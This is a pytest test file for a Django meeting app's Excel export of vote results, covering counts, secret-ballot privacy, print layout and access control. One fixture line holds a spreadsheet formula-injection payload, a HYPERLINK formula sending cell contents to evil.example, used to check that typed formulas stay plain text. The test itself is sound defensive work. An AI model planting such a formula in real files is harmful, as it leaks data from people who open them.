"""The votes of a meeting in one Excel workbook (Điều 5.5), read back with openpyxl: every vote
with its counts, times and the delegates who could vote; who chose what for a named vote only,
never for a secret one; a typed formula stays text; the meeting's runners and the PPC leaders
download it, an attendee gets 403 and another unit's people 404."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from accounts.models import Right
from conftest import make_user
from live.actions import checkin
from live.actions import room as room_actions
from live.actions import voting as vote_actions
from live.vote_export import SUMMARY_HEADER_ROW
from meetings.models import Meeting
from meetings.tests.conftest import approved
from polls.models import Poll

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def client_for(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def url(meeting: Meeting) -> str:
    return reverse("live:votes_xlsx", args=[meeting.pk])


def cast(poll: Poll, voter: Any, label: str) -> None:
    question = poll.questions.get()
    vote_actions.do_vote(voter, poll, {question.pk: question.options.get(label=label).pk})


def texts(ws: Worksheet) -> list[str]:
    return [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]


def summary_rows(ws: Worksheet) -> list[tuple[Any, ...]]:
    return [row for row in ws.iter_rows(min_row=SUMMARY_HEADER_ROW + 1, values_only=True) if any(row)]


@pytest.fixture
def ppc_leader(province):  # type: ignore[no-untyped-def]
    return make_user("ubnd.chutich", province["root"], Right.LEADER, full_name="Đinh Công Minh")


@pytest.fixture
def voted(organiser, leader, attendee, colleague, secretary, ppc_leader) -> Meeting:  # type: ignore[no-untyped-def]
    """In progress, both attendees checked in: a named vote (closed: one in favour, one against),
    a secret vote (closed: both in favour), and a named vote still open (one ballot so far)."""
    from datetime import timedelta

    meeting = approved(
        organiser,
        leader,
        [attendee, colleague, ppc_leader],
        start_in=timedelta(minutes=59),
        support_staff=[secretary],
    )
    room_actions.do_start_meeting(leader, meeting)
    checkin.do_check_in(attendee, meeting)
    checkin.do_check_in(colleague, meeting)
    named = vote_actions.do_create_vote(leader, meeting, question="Thông qua kế hoạch năm 2027?", open_now=True)
    cast(named, attendee, "Tán thành")
    cast(named, colleague, "Không tán thành")
    vote_actions.do_close_vote(leader, named)
    secret = vote_actions.do_create_vote(leader, meeting, question=FORMULA, secret=True, open_now=True)
    cast(secret, attendee, "Tán thành")
    cast(secret, colleague, "Tán thành")
    vote_actions.do_close_vote(leader, secret)
    running = vote_actions.do_create_vote(leader, meeting, question="Bổ sung dự toán?", open_now=True)
    cast(running, attendee, "Không biểu quyết")
    return meeting


def workbook(user: Any, meeting: Meeting) -> Workbook:
    response = client_for(user).get(url(meeting))
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == f'attachment; filename="bieu-quyet-cuoc-hop-{meeting.pk}.xlsx"'
    return load_workbook(io.BytesIO(response.content))


def test_the_summary_lists_every_vote_with_its_counts_times_and_who_could_vote(voted, organiser) -> None:
    book = workbook(organiser, voted)
    assert book.sheetnames == ["Tổng hợp", "BQ 1"]
    ws = book["Tổng hợp"]
    assert ws["A1"].value == "KẾT QUẢ BIỂU QUYẾT TẠI CUỘC HỌP"
    assert ws["A2"].value == voted.title
    assert "Có mặt: 2" in ws["A5"].value and "Đại biểu được mời: 3" in ws["A5"].value
    rows = summary_rows(ws)
    named = [r for r in rows if r[8] in ("Tán thành", "Không tán thành", "Không biểu quyết")][:3]
    # vote 1, named and closed: 1 in favour, 1 against, 0 abstaining, of the 2 present who voted
    assert named[0][:4] == (1, "Thông qua kế hoạch năm 2027?", "Công khai", "Đã kết thúc")
    assert named[0][6:8] == (2, 2)
    assert [(r[8], r[9], r[10]) for r in named] == [
        ("Tán thành", 1, 0.5),
        ("Không tán thành", 1, 0.5),
        ("Không biểu quyết", 0, 0.0),
    ]
    assert named[0][4] is not None and named[0][5] is not None  # opened and closed at (local times)
    assert named[0][4] <= named[0][5]
    # vote 2, secret: counts only
    secret = next(i for i, r in enumerate(rows) if r[0] == 2)
    assert rows[secret][2:4] == ("Kín", "Đã kết thúc")
    assert [(r[8], r[9]) for r in rows[secret : secret + 3]] == [
        ("Tán thành", 2),
        ("Không tán thành", 0),
        ("Không biểu quyết", 0),
    ]
    # vote 3, still open: how many voted, no result yet (as on the screens)
    running = next(r for r in rows if r[0] == 3)
    assert running[1:4] == ("Bổ sung dự toán?", "Công khai", "Đang biểu quyết")
    assert running[5] is None and running[6:8] == (2, 1)
    assert running[8] == "Chưa có kết quả: biểu quyết chưa kết thúc." and running[9] is None
    assert "Biểu quyết kín: không ghi tên người biểu quyết." in texts(ws)


def test_a_named_vote_lists_each_delegates_choice(voted, organiser, attendee, colleague) -> None:
    ws = workbook(organiser, voted)["BQ 1"]
    assert ws["A1"].value == "Biểu quyết 1: Thông qua kế hoạch năm 2027?"
    rows = [row for row in ws.iter_rows(min_row=4, values_only=True) if any(row)]
    assert [(r[0], r[1], r[3], r[4]) for r in rows] == [
        (1, "Lý Thị Hoa", "Sở Nội vụ", "Không tán thành"),
        (2, "Phan Văn Hải", "Sở Nội vụ", "Tán thành"),
    ]
    assert all(r[6] is not None for r in rows)  # when each voted


def test_a_secret_vote_never_names_anyone_and_an_open_vote_names_nobody_yet(voted, organiser) -> None:
    book = workbook(organiser, voted)
    assert "BQ 2" not in book.sheetnames and "BQ 3" not in book.sheetnames
    everything = [t for ws in book.worksheets for t in texts(ws)]
    assert "Phan Văn Hải" in everything  # named in vote 1 only: once, on its sheet
    assert sum(t == "Phan Văn Hải" for t in everything) == 1
    assert sum(t == "Lý Thị Hoa" for t in everything) == 1


def test_a_formula_typed_as_a_question_stays_text(voted, organiser) -> None:
    ws = workbook(organiser, voted)["Tổng hợp"]
    cells = [c for row in ws.iter_rows() for c in row if c.value == FORMULA]
    assert cells, "the question is in the workbook"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_a_meeting_without_votes_gets_a_workbook_that_says_so(meeting, leader) -> None:
    ws = workbook(leader, meeting)["Tổng hợp"]
    assert ws["A2"].value == meeting.title
    assert "Cuộc họp không có biểu quyết nào." in texts(ws)
    assert not [r for r in ws.iter_rows(min_row=SUMMARY_HEADER_ROW + 1, max_row=SUMMARY_HEADER_ROW + 1) if r[0].value]


def test_the_sheets_print_on_a4_landscape_with_the_header_on_every_page(voted, organiser) -> None:
    for ws in workbook(organiser, voted).worksheets:
        assert ws.page_setup.orientation == "landscape"
        assert str(ws.page_setup.paperSize) == str(ws.PAPERSIZE_A4)
        assert ws.print_title_rows
        assert ws["A1"].font.name == "Times New Roman"


@pytest.mark.parametrize("who", ["leader", "organiser", "secretary", "ppc_leader"])
def test_runners_and_ppc_leaders_download_it_during_and_after_the_meeting(voted, leader, who, request) -> None:
    user = request.getfixturevalue(who)
    assert "BQ 1" in workbook(user, voted).sheetnames
    room_actions.do_end_meeting(leader, voted)
    book = workbook(user, voted)
    assert "BQ 3" in book.sheetnames  # ending closed the last vote: its named list is there now
    assert [r for r in summary_rows(book["Tổng hợp"]) if r[0] == 3][0][3] == "Đã kết thúc"


def test_an_attendee_gets_403(voted, attendee) -> None:
    assert client_for(attendee).get(url(voted)).status_code == 403


def test_another_units_people_get_404(voted, outsider, stc_admin, stc_leader) -> None:
    for user in (outsider, stc_admin, stc_leader):
        assert client_for(user).get(url(voted)).status_code == 404


def test_a_ppc_leader_who_cannot_see_the_meeting_gets_404(meeting, province) -> None:
    other = make_user("ubnd.phochutich", province["root"], Right.LEADER, full_name="Trần Hồng Quang")
    assert client_for(other).get(url(meeting)).status_code == 404


def test_the_room_console_and_meeting_page_link_the_workbook_for_those_who_may(
    voted, organiser, leader, attendee, ppc_leader
) -> None:
    link = 'data-testid="votes-xlsx-link"'
    for user in (organiser, leader):
        client = client_for(user)
        assert link in client.get(reverse("live:room", args=[voted.pk])).content.decode()
        assert link in client.get(reverse("live:console", args=[voted.pk])).content.decode()
        assert link in client.get(reverse("meetings:detail", args=[voted.pk])).content.decode()
    assert link in client_for(ppc_leader).get(reverse("live:room", args=[voted.pk])).content.decode()
    assert link in client_for(ppc_leader).get(reverse("meetings:detail", args=[voted.pk])).content.decode()
    for page in ("live:room", "meetings:detail"):
        assert link not in client_for(attendee).get(reverse(page, args=[voted.pk])).content.decode()


def test_the_link_stays_on_the_room_page_after_the_end(voted, leader, secretary) -> None:
    room_actions.do_end_meeting(leader, voted)
    html = client_for(secretary).get(reverse("live:room", args=[voted.pk])).content.decode()
    assert 'data-testid="votes-xlsx-link"' in html
